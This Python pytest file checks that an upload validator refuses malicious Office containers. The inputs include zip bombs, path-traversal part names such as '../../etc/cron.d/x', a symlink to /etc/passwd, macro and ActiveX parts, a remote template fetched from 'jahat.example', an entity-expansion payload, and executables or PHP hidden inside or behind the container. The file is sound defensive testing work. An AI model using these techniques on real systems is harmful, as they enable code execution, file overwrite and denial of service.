"""Containers (XLSX, DOCX): bombs, names that lead astray, macros, and what they fetch by themselves."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from submissions.files import office
from tests.submissions import contents
from tests.submissions.test_files import inspect, refusal


def test_a_bomb_is_refused_by_what_it_says_of_itself(monkeypatch):
    bomb = contents.office("docx", {"word/media/a.xml": b"0" * 3_000_000})
    assert "mengembang" in refusal("a.docx", bomb)

    many = contents.office("docx", {f"word/{n}.xml": "x" for n in range(9)})
    monkeypatch.setattr(office, "MOST_PARTS", 9)
    assert "mengembang" in refusal("a.docx", many)


def test_a_bomb_that_lies_about_its_size_is_refused():
    data = bytearray(contents.office("docx", {"word/x.xml": b"0" * 900_000}))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = data.rindex(mark)
        data[place + at : place + at + 4] = struct.pack("<I", 10)
    assert refusal("a.docx", bytes(data))


@pytest.mark.parametrize(
    "part", ["../../etc/cron.d/x", "/etc/passwd", "C:/autorun.inf", "word/../../x", "word\\x.xml"]
)
def test_a_part_that_leads_out_of_the_container_is_refused(part):
    assert "tidak wajar" in refusal("a.docx", contents.office("docx", {part: "x"}))


def test_a_link_and_a_doubled_part_are_refused():
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    twice = io.BytesIO(contents.office("docx"))
    linked = io.BytesIO(contents.office("docx"))
    with zipfile.ZipFile(linked, "a") as container:
        container.writestr(link, "/etc/passwd")
    with zipfile.ZipFile(twice, "a") as container:
        container.writestr("WORD/document.xml", "<y/>")

    assert "tidak wajar" in refusal("a.docx", linked.getvalue())
    assert "tidak wajar" in refusal("a.docx", twice.getvalue())


@pytest.mark.parametrize(
    "data",
    [
        contents.office("xlsx", {"xl/vbaProject.bin": "x"}),
        contents.office("docx", {"word/embeddings/oleObject1.bin": "x"}),
        contents.office("docx", {"word/activeX/activeX1.xml": "x"}),
        contents.office("docx", kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ],
    ids=lambda data: str(len(data)),
)
def test_macros_and_embedded_objects_are_refused(data):
    name = "a.xlsx" if b"xl/workbook" in data else "a.docx"
    assert "makro" in refusal(name, data)


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "frame"])
def test_what_a_document_would_fetch_by_itself_is_refused(kind):
    data = contents.office("docx", contents.related("http://jahat.example/x.dotm", kind))

    assert "mengambil isi dari luar" in refusal("a.docx", data)


def test_a_link_for_readers_and_a_part_of_its_own_are_no_fetching():
    link = contents.related("https://contoh.go.id/", "hyperlink")
    own = contents.related("media/a.png", "image", "Internal")

    assert inspect("a.docx", contents.office("docx", link))
    assert inspect("a.docx", contents.office("docx", own))


def test_relations_that_declare_words_of_their_own_are_refused():
    laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'

    assert "rusak" in refusal("a.docx", contents.office("docx", {"_rels/.rels": laughs}))
    assert "rusak" in refusal("a.docx", contents.office("docx", {"_rels/.rels": "<x"}))


SECOND = "memuat berkas lain"


@pytest.mark.parametrize(
    "data",
    [
        contents.DOCX + b"MZ" + b"\0" * 60,
        contents.DOCX + contents.PDF,
        contents.DOCX[:-2] + b"\x05\x00<?php",
        contents.DOCX + contents.DOCX,
    ],
    ids=["program", "pdf", "comment", "container"],
)
def test_what_stands_behind_a_container_is_refused(data):
    assert refusal("a.docx", data)


def test_what_stands_between_two_parts_is_refused():
    data, hidden = contents.DOCX, b"MZ" + b"\0" * 60
    at = data.index(b"PK\x03\x04", 4)
    table = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", table + 4)
    moved = bytearray(data[:at] + hidden + data[at:])
    for place, size in ((second + len(hidden) + 42, 4), (len(moved) - 6, 4)):
        old = int.from_bytes(moved[place : place + size], "little")
        moved[place : place + size] = (old + len(hidden)).to_bytes(size, "little")

    assert zipfile.ZipFile(io.BytesIO(bytes(moved))).testzip() is None
    assert SECOND in refusal("a.docx", bytes(moved))


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("word/media/image1.png", b"MZ\x90"),
        ("word/media/image1.jpeg", b"%PDF-1.7"),
        ("word/printerSettings/printerSettings1.bin", b"MZ\x90"),
        ("word/page.xml", b"<html><script>"),
        ("word/page.xml", b"<!doctype html>"),
        ("word/setup.exe", b"MZ\x90"),
        ("word/page.html", b"<p>"),
        ("word/more.pdf", contents.PDF),
    ],
)
def test_a_part_that_is_none_of_a_document_is_refused(part, data):
    assert SECOND in refusal("a.docx", contents.office("docx", {part: data}))


def test_pictures_and_the_figures_behind_a_chart_are_parts_of_a_document():
    parts = {
        "word/media/image1.png": contents.PNG,
        "word/media/image2.jpeg": contents.JPG,
        "word/embeddings/Microsoft_Excel_Sheet.xlsx": contents.XLSX,
        "word/printerSettings/printerSettings1.bin": b"\x00\x01",
        "docProps/custom.xml": '<?xml version="1.0"?><x/>',
        "customXml/item1.xml": "\ufeff<x/>".encode(),
        "word/empty.xml": "",
    }
    data = contents.office("docx", parts)

    assert inspect("a.docx", data).size == len(data)


def test_the_figures_behind_a_chart_are_looked_through_too():
    def holding(inner: bytes) -> bytes:
        return contents.office("docx", {"word/embeddings/Sheet.xlsx": inner})

    nested = contents.office("xlsx", {"xl/embeddings/Sheet.xlsx": contents.XLSX})
    assert "makro" in refusal(
        "a.docx", holding(contents.office("xlsx", {"xl/vbaProject.bin": "x"}))
    )
    assert SECOND in refusal("a.docx", holding(nested))


def test_a_container_written_in_one_go_is_whole():
    """A writer that cannot go back puts the sizes behind the bytes."""

    class Line(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

        seek = tell

    line = Line()
    whole = zipfile.ZipFile(io.BytesIO(contents.DOCX))
    with zipfile.ZipFile(line, "w", zipfile.ZIP_DEFLATED) as container:
        for part in whole.namelist():
            container.writestr(part, whole.read(part))

    assert inspect("a.docx", line.getvalue()).size == len(line.getvalue())
